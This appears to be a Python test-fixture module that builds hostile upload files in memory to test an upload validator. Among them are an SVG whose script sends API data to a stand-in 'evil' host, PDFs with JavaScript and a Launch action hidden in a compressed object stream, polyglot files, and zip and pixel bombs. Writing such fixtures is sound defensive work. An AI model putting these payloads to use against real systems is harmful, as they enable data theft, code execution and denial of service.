"""Hostile files for the upload tests: each is what an attacker (or an unlucky user) might send, made in memory."""

import functools
import io
import struct
import zipfile
import zlib

from docx import Document
from openpyxl import Workbook
from PIL import ExifTags, Image
from PIL.TiffImagePlugin import IFDRational


def jpeg(size=(64, 48), colour=(120, 160, 200)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "JPEG")
    return out.getvalue()


def png(size=(40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (10, 120, 200)).save(out, "PNG")
    return out.getvalue()


def svg() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>fetch('/api/v1/tasks').then(r=>r.text()).then(t=>location='//evil/'+t)</script></svg>"
    )


def html() -> bytes:
    return "<!DOCTYPE html>\n<html><body><h1>进展</h1><script>alert(document.cookie)</script></body></html>".encode()


def polyglot_jpeg() -> bytes:
    """A real JPEG that is also a web page: browsers sniffing it as HTML would run the script."""
    return jpeg() + b"<html><script>alert(document.domain)</script></html>"


def program() -> bytes:
    return (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
        + b"\x00" * 200
        + b"This program cannot be run in DOS mode"
    )


def _pdf(objects: list[bytes]) -> bytes:
    """A small well-formed PDF with these objects (numbered from 1) and a cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


_PAGES = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
]


def pdf() -> bytes:
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *_PAGES])


def pdf_with_javascript() -> bytes:
    return _pdf(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *_PAGES,
         b"<< /S /JavaScript /JS (app.alert('hi');) >>"]
    )  # fmt: skip


def pdf_with_escaped_javascript() -> bytes:
    """/J#61vaScript is /JavaScript to a PDF reader."""
    return _pdf(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *_PAGES, b"<< /S /J#61vaScript /JS (1) >>"]
    )


def pdf_with_launch_in_object_stream() -> bytes:
    """The launch action sits compressed inside an object stream, invisible to a scan of the raw bytes."""
    inner = b"5 0 << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
    packed = zlib.compress(b"5 0 " + inner)
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return _pdf(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", *_PAGES, stream + packed + b"\nendstream"]
    )


def huge_pixels_png(width=30_000, height=30_000) -> bytes:
    """A few hundred bytes that claim 900 million pixels (a decompression bomb)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + chunk(b"IEND", b"")
    )


def xlsx() -> bytes:
    wb = Workbook()
    wb.active.append(["单位名称", "简称", "类型"])
    wb.active.append(["市发改委", "发改委", "市直部门"])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def docx() -> bytes:
    document = Document()
    document.add_paragraph("工作进展情况")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def with_macro(office: bytes, folder: str) -> bytes:
    """The Office file with a VBA project added, as Word and Excel save .docm / .xlsm files."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(office)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            target.writestr(item, source.read(item))
        target.writestr(
            f"{folder}/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name" * 20
        )
    return out.getvalue()


@functools.cache  # a second or so to make; the tests share it
def zip_bomb_xlsx(unpacked_mb=300) -> bytes:
    """An .xlsx of 1–2 MB whose worksheet unpacks to `unpacked_mb` MB of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            block = b"\x00" * (1 << 20)
            for _ in range(unpacked_mb):
                sheet.write(block)
    return out.getvalue()


def _dms(value: float) -> tuple:
    deg = int(value)
    minutes = int((value - deg) * 60)
    seconds = round(((value - deg) * 60 - minutes) * 60 * 100)
    return (IFDRational(deg, 1), IFDRational(minutes, 1), IFDRational(seconds, 100))


def camera_jpeg(*, orientation: int = 1, size=(80, 40)) -> bytes:
    """A phone photo: capture time, GPS position, camera serial, a comment, XMP — and an orientation tag."""
    img = Image.new("RGB", size, (200, 40, 40))
    img.paste((40, 40, 200), (0, 0, size[0] // 2, size[1]))  # left half blue, to see the rotation
    exif = img.getexif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Orientation] = orientation
    exif.get_ifd(ExifTags.IFD.Exif)[ExifTags.Base.DateTimeOriginal] = "2026:11:20 09:30:00"
    exif.get_ifd(ExifTags.IFD.Exif)[ExifTags.Base.BodySerialNumber] = "SN-0042-SECRET"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = _dms(34.7466)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = _dms(113.6253)
    out = io.BytesIO()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description photographer="Zhang San"/></rdf:RDF></x:xmpmeta>'
    img.save(out, "JPEG", exif=exif, comment=b"owner: Zhang San 13800138000", xmp=xmp)
    return out.getvalue()
